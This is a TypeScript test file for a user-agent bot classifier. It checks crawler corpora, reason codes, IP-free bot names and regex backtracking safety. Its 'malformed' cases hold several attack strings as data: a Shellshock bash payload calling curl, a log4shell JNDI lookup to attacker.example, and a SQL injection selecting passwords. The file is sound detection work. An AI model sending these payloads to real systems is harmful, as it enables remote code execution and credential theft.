import { readFileSync } from "node:fs";
import fc from "fast-check";
import { check } from "recheck";
import { describe, expect, it } from "vitest";
import {
  BOT_PATTERNS,
  BOT_REASONS,
  classifyBot,
  HUMAN,
  safeName,
} from "../../../../functions/core/enrich/bots.ts";

/** Subsets of isbot's fixtures (Unlicense) and crawler-user-agents (MIT): see test/fixtures/bots/README.md. */
function fixture(name: string): string[] {
  const text = readFileSync(new URL(`../../../fixtures/bots/${name}`, import.meta.url), "utf8");
  return text.split("\n").filter((line) => line.length > 0);
}

describe("classifyBot on the bot corpora", () => {
  it("flags every crawler of isbot's crawler fixtures", () => {
    // Prepare
    const crawlers = fixture("isbot-crawlers.txt");

    // Act
    const missed = crawlers.filter((ua) => !classifyBot(ua).isBot);

    // Assess
    expect(crawlers.length).toBeGreaterThan(300);
    expect(missed).toEqual([]);
  });

  it("flags no browser of isbot's browser fixtures except the injection payloads isbot files under browsers", () => {
    // Prepare
    const browsers = fixture("isbot-browsers.txt");

    // Act
    const flagged = browsers.filter((ua) => classifyBot(ua).isBot);

    // Assess: a deliberate disagreement, documented in docs/BOTS.md (0.72 % of this subset)
    expect(browsers.length).toBeGreaterThan(250);
    expect(flagged.map((ua) => classifyBot(ua).reason)).toEqual(["malformed", "malformed"]);
    expect(flagged.length / browsers.length).toBeLessThanOrEqual(0.0072);
  });

  it("flags at least 99.6 % of crawler-user-agents' example agents", () => {
    // Prepare
    const crawlers = fixture("crawler-user-agents.txt");

    // Act
    const flagged = crawlers.filter((ua) => classifyBot(ua).isBot);

    // Assess: the one miss is Fluid, a site-specific browser wrapper, which we count as a person
    expect(crawlers.length).toBeGreaterThan(300);
    expect(flagged.length / crawlers.length).toBeGreaterThanOrEqual(0.996);
  });

  it("only ever gives a reason from the closed list, and a reason exactly when it says bot", () => {
    // Prepare
    const agents = [
      ...fixture("isbot-crawlers.txt"),
      ...fixture("isbot-browsers.txt"),
      ...fixture("crawler-user-agents.txt"),
    ];

    // Act
    const verdicts = agents.map((ua) => classifyBot(ua));

    // Assess
    for (const v of verdicts) {
      expect(v.reason === null).toBe(!v.isBot);
      if (v.reason !== null) expect(BOT_REASONS).toContain(v.reason);
      if (!v.isBot) expect(v.name).toBeNull();
    }
  });
});

describe("classifyBot reasons and names", () => {
  it.each([
    [null, "empty_ua", null],
    ["", "empty_ua", null],
    ["-", "empty_ua", null],
    ["   ", "empty_ua", null],
    ["() { :; }; /bin/bash -c 'curl http://x'", "malformed", null],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell payload is a literal `${...}` string
    ["${jndi:ldap://attacker.example/a}", "malformed", null],
    ["Mozilla/5.0' UNION SELECT password FROM users--", "malformed", null],
    ["Mozilla/5.0\u0000(Windows NT 10.0)", "malformed", null],
    [`Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${"A".repeat(1100)}`, "malformed", null],
    [
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
      "headless",
      "HeadlessChrome",
    ],
    [
      "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
      "headless",
      "PhantomJS",
    ],
    ["curl/8.4.0", "library", "curl"],
    ["Wget/1.21.4", "library", "Wget"],
    ["python-requests/2.31.0", "library", "python-requests"],
    ["Go-http-client/1.1", "library", "Go-http-client"],
    ["okhttp/4.12.0", "library", "okhttp"],
    [
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      "self_declared",
      "Googlebot",
    ],
    ["Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "self_declared", "bingbot"],
    ["Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "self_declared", "AhrefsBot"],
    [
      "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
      "self_declared",
      "Baiduspider",
    ],
    [
      "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
      "self_declared",
      "GPTBot",
    ],
    [
      "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
      "self_declared",
      "facebookexternalhit",
    ],
    ["WhatsApp/2.23.20.0", "isbot_pattern", "WhatsApp"],
  ])("%j is a bot: %s, %s", (ua, reason, name) => {
    // Act
    const verdict = classifyBot(ua);

    // Assess
    expect(verdict).toEqual({ isBot: true, reason, name });
  });

  it.each([
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Linux; Android 10; CUBOT KINGKONG 5 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A.240105.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.193 Mobile Safari/537.36 Instagram 312.0.0.32.112 Android",
  ])("%j is a person", (ua) => {
    // Act
    const verdict = classifyBot(ua);

    // Assess
    expect(verdict).toEqual(HUMAN);
  });

  it.each([
    ["Googlebot", "Googlebot"],
    ["googlebot", "Googlebot"],
    ["MJ12bot", "MJ12bot"],
    ["360Spider", "360Spider"],
    ["192", null],
    ["bot-3232235777", null],
    ["crawler-c0a80101", null],
    ["bot.192.168.1.1", null],
    ["amazon-kendra-customer-id-1234-5678-9012", null],
    ["x", null],
    ["A".repeat(41), null],
  ])("safeName(%j) is %j", (candidate, expected) => {
    // Act
    const name = safeName(candidate);

    // Assess
    expect(name).toBe(expected);
  });

  it("never names a bot with the address a visitor hid in the agent", () => {
    const templates = [
      (ip: string) => `Mozilla/5.0 (compatible; ${ip}bot/1.0; +http://example.com)`,
      (ip: string) => `${ip}-crawler/2.0`,
      (ip: string) => `curl/8.0 ${ip}`,
      (ip: string) => `Mozilla/5.0 (compatible; Scanner-${ip}/1.0)`,
      (ip: string) => `spider${ip}`,
    ];
    const encodings = (b: number[]) => {
      const [a = 0, c = 0, d = 0, e = 0] = b;
      const n = ((a << 24) >>> 0) + (c << 16) + (d << 8) + e;
      return [
        `${a}.${c}.${d}.${e}`,
        n.toString(16).padStart(8, "0"),
        String(n),
        `${a}-${c}-${d}-${e}`,
        `${a}_${c}_${d}_${e}`,
      ];
    };
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 4, maxLength: 4 }),
        fc.nat({ max: templates.length - 1 }),
        fc.nat({ max: 4 }),
        (bytes, t, enc) => {
          // Prepare
          const forms = encodings(bytes);
          const ua = templates[t]?.(forms[enc] ?? "") ?? "";

          // Act
          const { name } = classifyBot(ua);

          // Assess: the name carries no form of the address (a 1-digit-per-octet address is 4 digits, still refused
          // in its dotted form because names have no dots)
          if (name !== null) {
            for (const form of forms) if (form.length >= 7) expect(name.toLowerCase()).not.toContain(form);
            expect(name).toMatch(/^[A-Za-z0-9_-]+$/);
            expect(name.replace(/\D/g, "").length).toBeLessThanOrEqual(4);
          }
        },
      ),
      { numRuns: 2000, seed: 7 },
    );
  });
});

describe("classifyBot patterns are safe on the hot path", () => {
  it.each(Object.entries(BOT_PATTERNS))("%s has no catastrophic backtracking", async (_name, pattern) => {
    // Act
    const result = await check(pattern.source, pattern.flags, { timeout: 30_000 });

    // Assess
    expect(result.status).toBe("safe");
  });
});
